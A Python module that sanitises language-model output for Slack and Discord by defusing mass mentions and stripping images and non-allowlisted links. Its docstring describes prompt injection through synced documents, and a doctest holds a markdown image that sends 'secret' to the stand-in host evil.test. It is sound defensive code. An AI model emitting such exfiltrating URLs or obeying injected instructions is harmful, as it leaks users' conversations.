"""Output safety for model text, on every platform: it can never ping, embed images or leak data by URL.

Model output is untrusted: a synced document can tell the model to write `<!channel>` (pinging hundreds
of people) or a markdown image whose URL carries the conversation to an outside host (the chat client
or its unfurler fetches it). Adapters run model text through `sanitize` before posting.

    >>> sanitize("Hi <!channel>! ![x](https://evil.test/p.png?d=secret) see [docs](https://docs.ok/a)",
    ...          allowlist=("docs.ok",))
    'Hi @\\u200bchannel! [image removed] see [docs](https://docs.ok/a)'
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

ZWSP = "\u200b"  # zero-width space: "@\u200beveryone" reads as @everyone but pings nobody

# Slack special mentions (<!channel>, <!here|here>, <!subteam^S1|@team>) and user/role mentions on Slack
# (<@U123>, <@U123|ann>) and Discord (<@123>, <@!123>, <@&123>).
_SPECIAL = re.compile(r"<!(channel|here|everyone|subteam\^[^|>]*)(?:\|([^>]*))?>", re.I)
_USER = re.compile(r"<@([!&]?)([A-Za-z0-9]+)(?:\|([^>]*))?>")
_AT_WORD = re.compile(r"@(everyone|here|channel)\b", re.I)

_IMAGE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_LINK = re.compile(r"(?<!!)\[([^\]]*)\]\(\s*<?([^)\s>]+)>?(?:\s+\"[^\"]*\")?\s*\)")
_SLACK_LINK = re.compile(r"<((?:https?|ftp)://[^|>\s]+)(?:\|([^>]*))?>")
_BARE_URL = re.compile(r"(?<![(<\[|])\b((?:https?|ftp)://[^\s<>()\[\]\"']+)")


def neutralise_mentions(text: str) -> str:
    """Make every mention inert while keeping it readable.

    >>> neutralise_mentions("<!here> ping <@U12AB|ann> and @everyone, role <@&42>")
    '@\\u200bhere ping @\\u200bann and @\\u200beveryone, role @\\u200b&42'
    """

    def special(m: re.Match[str]) -> str:
        label = (m.group(2) or m.group(1)).lstrip("@")
        return "@" + ZWSP + (label if not label.lower().startswith("subteam^") else "team")

    def user(m: re.Match[str]) -> str:
        label = m.group(3) or (m.group(1).replace("!", "") + m.group(2))
        return "@" + ZWSP + label.lstrip("@")

    text = _SPECIAL.sub(special, text)
    text = _USER.sub(user, text)
    return _AT_WORD.sub(lambda m: "@" + ZWSP + m.group(1), text)


def parse_allowlist(raw: str | Iterable[str]) -> tuple[str, ...]:
    """`"docs.example.com, example.org"` -> lower-case host names.

    >>> parse_allowlist(" Docs.Example.com, ,example.org")
    ('docs.example.com', 'example.org')
    """
    items = raw.split(",") if isinstance(raw, str) else raw
    return tuple(h.strip().lower() for h in items if h.strip())


def host_allowed(url: str, allowlist: Iterable[str]) -> bool:
    """True when the URL's host is an allowlisted host or one of its subdomains.

    >>> host_allowed("https://wiki.example.com/x", ["example.com"])
    True
    >>> host_allowed("https://example.com.evil.test/x", ["example.com"])
    False
    """
    try:
        host = (urlsplit(url).hostname or "").lower().rstrip(".")
    except ValueError:
        return False
    return bool(host) and any(host == h or host.endswith("." + h) for h in allowlist)


def _host(url: str) -> str:
    try:
        return urlsplit(url).hostname or "unknown host"
    except ValueError:
        return "unknown host"


def strip_unsafe_links(text: str, allowlist: Iterable[str] = ()) -> str:
    """Remove every markdown image, and links/URLs to hosts outside the allowlist (labels stay).

    >>> strip_unsafe_links("[a](https://ok.test/1) [b](https://bad.test/?q=1) https://bad.test/x", ["ok.test"])
    '[a](https://ok.test/1) b [link removed: bad.test]'
    """
    allow = tuple(allowlist)

    def link(m: re.Match[str]) -> str:
        return m.group(0) if host_allowed(m.group(2), allow) else m.group(1)

    def slack_link(m: re.Match[str]) -> str:
        return m.group(0) if host_allowed(m.group(1), allow) else (m.group(2) or f"[link removed: {_host(m.group(1))}]")

    def bare(m: re.Match[str]) -> str:
        return m.group(1) if host_allowed(m.group(1), allow) else f"[link removed: {_host(m.group(1))}]"

    text = _IMAGE.sub("[image removed]", text)
    text = _LINK.sub(link, text)
    text = _SLACK_LINK.sub(slack_link, text)
    return _BARE_URL.sub(bare, text)


def sanitize(text: str, allowlist: Iterable[str] = ()) -> str:
    """Everything model text needs before it is posted anywhere: no pings, no outside images or links."""
    return strip_unsafe_links(neutralise_mentions(text), allowlist)
